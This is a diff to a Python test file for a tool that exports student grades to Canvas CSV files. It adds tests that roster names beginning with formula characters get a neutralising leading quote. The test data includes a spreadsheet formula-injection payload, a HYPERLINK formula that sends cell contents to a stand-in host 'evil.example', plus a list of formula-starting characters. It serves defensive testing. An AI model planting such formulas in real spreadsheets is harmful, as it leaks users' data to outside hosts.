@@ -22,6 +22,13 @@ ROSTER = """id,name,email,login,github,section
 """
 
 
+def csv_line(value: str) -> str:
+    """One cell as a CSV line holds it (quotes doubled)."""
+    buf = io.StringIO()
+    csv.writer(buf, lineterminator="").writerow([value])
+    return buf.getvalue()
+
+
 def _roster(tmp_path: Path, text: str = ROSTER) -> list[lms.Person]:
     path = tmp_path / "roster.csv"
     path.write_text(text, encoding="utf-8")
@@ -59,14 +66,77 @@ def test_roster_join_splits_groups_lists_missing_and_unmatched(tmp_path):
     assert "4 students on the roster: 3 with a submission, 1 missing; 1 submission(s)" in summary and "`stranger`" in summary
 
 
-def test_canvas_csv_has_the_import_header_points_possible_and_no_formula_quotes(tmp_path):
-    people = _roster(tmp_path, ROSTER.replace("Ana Lima", "=Ana Lima"))
+def test_canvas_csv_has_the_import_header_points_possible_and_numbers(tmp_path):
+    people = _roster(tmp_path)
     joined = lms.join([_row("ana-gh", 90.5)], people)
     lines = list(csv.reader(io.StringIO(lms.canvas_csv(people, joined, "Week 7 attention", 100))))
     assert lines[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Week 7 attention"]
     assert lines[1] == ["Points Possible", "", "", "", "", "100"]
-    assert lines[2] == ["=Ana Lima", "", "1001", "alima", "A", "90.5"]  # roster text as given: the instructor's own file
+    assert lines[2] == ["Ana Lima", "", "1001", "alima", "A", "90.5"]
     assert lines[5][-1] == "0"  # missing work is 0, not a blank Canvas would skip
+
+
+#: roster cells a spreadsheet would run (names in a student information system are often
+#: student-chosen): the cases of issue 28 F, and the other characters that start a formula
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+dave", "@SUM(1+1)", "-2+3", "=1+1", "＝1+1"]
+#: first characters of a cell that a spreadsheet runs
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
+HOSTILE_ROSTER = f"""id,name,email,login,section,canvas_id
+1001,{csv_line(FORMULAS[0])},ana@uni.edu,alima,A,501
+1002,+dave,+dave@uni.edu,+dave,@SUM(1+1),502
+1003,Cy Diaz,cy@uni.edu,-2+3,-2+3,503
+-7,=1+1,di@uni.edu,devans,＝1+1,-8
+"""
+
+
+def _canvas_import(text: str, ids: set[str]) -> dict[str, float]:
+    """What Canvas's gradebook import needs (its "Import" of an exported gradebook): the
+    header's identifying columns, a Points Possible row, each student found by SIS User ID,
+    each grade a number (a cell Canvas cannot read as one is rejected). Returns id → grade."""
+    lines = list(csv.reader(io.StringIO(text)))
+    assert lines[0][:5] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"], lines[0]
+    assert lines[1][0] == "Points Possible" and float(lines[1][5]) > 0
+    grades = {}
+    for line in lines[2:]:
+        assert line[2] in ids, f"SIS User ID {line[2]!r} is not a roster id: Canvas matches no student"
+        grades[line[2]] = float(line[5])  # raises on anything but a number
+    return grades
+
+
+def test_roster_text_cannot_become_a_formula_in_any_lms_file_and_canvas_still_imports_it(tmp_path):
+    """Issue 28 F: roster cells went raw into lms/canvas.csv and lms/grades.csv. Every text
+    cell of every file is neutralised (a leading ``'``); ids and numbers are unchanged — a
+    negative number is a number, while the text "-2+3" is neutralised."""
+    people = _roster(tmp_path, HOSTILE_ROSTER)
+    rows = [_row("alima", 90.5), _row("+dave", 12), _row("cy@uni.edu", 0), _row("=nobody", 1)]
+    joined = lms.write(tmp_path, rows, people, "=Week 7", 100)
+    names = ("canvas.csv", "grades.csv", "unmatched.csv")
+    written = {name: (tmp_path / "lms" / name).read_text(encoding="utf-8") for name in names}
+    for name, text in written.items():
+        for line in csv.reader(io.StringIO(text)):
+            for value in line:
+                assert not value.startswith(FORMULA_START) or _plain_number(value), (name, value, line)
+    grades = _canvas_import(written["canvas.csv"], {p.get("id") for p in people})
+    assert grades == {"1001": 90.5, "1002": 12.0, "1003": 0.0, "-7": 0.0}  # -7: a negative id is a number, unchanged
+    canvas = list(csv.reader(io.StringIO(written["canvas.csv"])))
+    assert canvas[0][5] == "'=Week 7"
+    assert canvas[2][:2] == ["'" + FORMULAS[0], "501"]
+    assert canvas[3][0] == "'+dave" and canvas[3][3] == "'+dave" and canvas[3][4] == "'@SUM(1+1)"
+    assert canvas[4][3] == "'-2+3" and canvas[4][4] == "'-2+3"
+    assert canvas[5][:2] == ["'=1+1", "-8"] and canvas[5][4] == "'＝1+1"
+    grades_rows = {line[0]: line for line in csv.reader(io.StringIO(written["grades.csv"]))}
+    assert grades_rows["1002"][1:5] == ["'+dave", "'+dave@uni.edu", "'+dave", "12"]
+    assert grades_rows["-7"][1] == "'=1+1" and grades_rows["1001"][4:7] == ["90.5", "100", "90.5"]
+    assert [r.student.key for r, _m, _w in joined.unmatched] == ["=nobody"]
+    assert "'=nobody" in written["unmatched.csv"]
+
+
+def _plain_number(value: str) -> bool:
+    try:
+        float(value)
+    except ValueError:
+        return False
+    return True
 
 
 def test_roster_errors_name_the_line_and_the_fix(tmp_path):
